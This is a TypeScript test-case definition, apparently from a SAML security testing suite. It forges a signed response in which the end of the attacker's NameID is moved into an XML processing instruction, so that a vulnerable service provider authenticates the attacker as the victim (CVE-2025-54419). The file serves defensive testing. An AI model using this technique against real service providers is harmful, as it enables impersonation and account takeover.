import { defineMutation } from '../../model/mutation.ts';
import { setContent, setText } from '../kit/edit.ts';
import { bySigner, signAgain } from '../kit/forge.ts';
import { splitName, tail } from './_names.ts';

export default defineMutation({
  id: 'parser/text-in-instruction',
  title: 'The end of a signed NameID is moved into a processing instruction',
  stage: 'after-signing',
  change: {
    on: 'response',
    apply: (xml, context) => {
      const signed = signAgain(xml, {
        change: (unsigned) => setText(unsigned, 'Subject/NameID', `${context.victim.nameId}${tail}`),
        fill: bySigner(context, 'idp'),
      });
      return setContent(signed, 'Subject/NameID', splitName(context, '<?and ').concat('?>'));
    },
  },
  breaks: ['response/plain-values', 'signature/digest', 'subject/user-name'],
  hostile: true,
  safe: 'genuine-user',
  refs: [
    { document: 'xml', section: '2.6', says: 'A processing instruction is no part of the character data.' },
    {
      document: 'xmldsig',
      section: 'Version 1.1, 8.1.3',
      says: 'Applications operate on what was signed, as it came out of the transforms, and not on the document that it was in.',
    },
  ],
  cves: ['CVE-2025-54419'],
  attack: {
    against: 'sp',
    mechanism:
      'The attacker’s own name, as it was signed, begins with the victim’s; its end is then hidden in a processing instruction. A verifier whose canonical form keeps the instruction’s data as text finds the digest unchanged, and a reader of the document, not of the digested text, sees the victim.',
    weakness: ['instructions-as-text'],
  },
});
